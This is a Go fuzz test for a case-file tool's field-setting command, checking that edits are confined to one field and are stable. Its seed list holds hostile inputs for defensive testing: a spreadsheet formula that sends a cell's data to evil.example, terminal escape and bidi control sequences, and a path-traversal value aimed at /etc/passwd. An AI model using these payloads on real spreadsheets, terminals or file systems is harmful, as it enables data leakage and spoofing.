package model_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"casefile/fakeclinic"
	"casefile/model"
)

var fuzzToday = model.Date{Year: 2026, Month: 12, Day: 7}

// fields is a case file as JSON objects, the case's and the person's.
func fields(t *testing.T, f *model.CaseFile) (map[string]json.RawMessage, map[string]json.RawMessage) {
	t.Helper()
	var c, p map[string]json.RawMessage
	b, _ := json.Marshal(f.Case)
	if err := json.Unmarshal(b, &c); err != nil {
		t.Fatal(err)
	}
	b, _ = json.Marshal(f.Person)
	if err := json.Unmarshal(b, &p); err != nil {
		t.Fatal(err)
	}
	return c, p
}

// FuzzSetField: `casefile case set REF FIELD=VALUE` and a CSV import name
// fields the way a user types them. Whatever the name and the value:
//   - nothing panics, nor does validating the result;
//   - a refusal leaves the case file exactly as it was;
//   - an accepted one changes that field only (of the case, or of the
//     person for "person.…"), and setting it again to the value it now
//     shows changes nothing.
func FuzzSetField(f *testing.F) {
	base := fakeclinic.New(5).CaseFile(fuzzToday)
	f.Add("prefecture", "Seine-Saint-Denis (Bobigny)")
	f.Fuzz(func(t *testing.T, field, value string) {
		cf := base
		cf.Related = append([]model.Related(nil), base.Related...)
		before := cf
		bc, bp := fields(t, &cf)
		err := model.SetField(&cf, field, value)
		ac, ap := fields(t, &cf)
		if err != nil {
			if !maps.EqualFunc(bc, ac, jsonEqual) || !maps.EqualFunc(bp, ap, jsonEqual) {
				t.Fatalf("refused (%v), and changed the case file", err)
			}
			return
		}
		_ = cf.Validate(fuzzToday)
		name, isPerson := strings.CutPrefix(field, "person.")
		changedC, changedP := diffKeys(bc, ac), diffKeys(bp, ap)
		switch {
		case isPerson && (len(changedC) > 0 || len(changedP) > 1 || len(changedP) == 1 && changedP[0] != name),
			!isPerson && (len(changedP) > 0 || len(changedC) > 1 || len(changedC) == 1 && changedC[0] != name):
			t.Fatalf("set %q, changed case %v person %v", field, changedC, changedP)
		}
		if cf.ID != before.ID || cf.Ref != before.Ref || cf.PersonID != before.PersonID || cf.Person.ID != before.Person.ID {
			t.Fatal("an identifier changed")
		}
		// The value as it now reads, set again: nothing changes.
		obj := ac
		if isPerson {
			obj = ap
		}
		shown := shownValue(obj[name])
		again := cf
		if err := model.SetField(&again, field, shown); err != nil {
			t.Fatalf("set %q=%q, then %q=%q refused: %v", field, value, field, shown, err)
		}
		a2c, a2p := fields(t, &again)
		if !maps.EqualFunc(ac, a2c, jsonEqual) || !maps.EqualFunc(ap, a2p, jsonEqual) {
			t.Fatalf("set %q to %q (shown as %q): not stable", field, value, shown)
		}
	})
}

func jsonEqual(a, b json.RawMessage) bool { return string(a) == string(b) }

func diffKeys(a, b map[string]json.RawMessage) []string {
	var out []string
	for k := range a {
		if string(a[k]) != string(b[k]) {
			out = append(out, k)
		}
	}
	for k := range b {
		if _, ok := a[k]; !ok {
			out = append(out, k)
		}
	}
	return out
}

// shownValue is a field's value as `case show` gives it back to be typed
// again: strings as they are, lists joined by commas, booleans yes/no.
func shownValue(raw json.RawMessage) string {
	var s string
	if json.Unmarshal(raw, &s) == nil {
		return s
	}
	var list []string
	if json.Unmarshal(raw, &list) == nil {
		return strings.Join(list, ",")
	}
	var b bool
	if json.Unmarshal(raw, &b) == nil {
		if b {
			return "yes"
		}
		return "no"
	}
	return string(raw)
}

// TestWriteSetFieldFuzzSeeds rewrites testdata/fuzz/FuzzSetField when
// CASEFILE_WRITE_SEEDS=1: every settable field with a value as the
// fictional clinic writes it, then the hostile cases.
func TestWriteSetFieldFuzzSeeds(t *testing.T) {
	if os.Getenv("CASEFILE_WRITE_SEEDS") != "1" {
		t.Skip("set CASEFILE_WRITE_SEEDS=1 to rewrite testdata/fuzz/FuzzSetField")
	}
	dir := filepath.Join("testdata", "fuzz", "FuzzSetField")
	os.RemoveAll(dir)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	seed := func(name, field, value string) {
		b := fmt.Appendf(nil, "go test fuzz v1\nstring(%q)\nstring(%q)\n", field, value)
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cf := fakeclinic.New(8).CaseFile(fuzzToday)
	c, p := fields(t, &cf)
	for k, v := range c {
		seed("case."+k, k, shownValue(v))
	}
	for k, v := range p {
		seed("person."+k, "person."+k, shownValue(v))
	}
	seed("date-fr", "opened", "07/12/2026")
	seed("date-bad", "person.birth_date", "31/02/2026")
	seed("interpreter-oui", "person.interpreter", "Oui")
	seed("languages", "person.languages", " arabe,, français ,")
	seed("formula", "prefecture", "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")")
	seed("control", "person.family_name", "\x1b]0;owned\x07\x1b[31mBenali\u202e")
	seed("traversal", "person.family_name", "../../../../etc/passwd")
	seed("nested-person", "person.person.family_name", "x")
	seed("case-insensitive", "Prefecture", "x")
	seed("number-field", "malfunctions", "[]")
	seed("not-utf8", "lawyer", "Me \xff\xfe")
	seed("long", "outcome", strings.Repeat("é", 600))
}
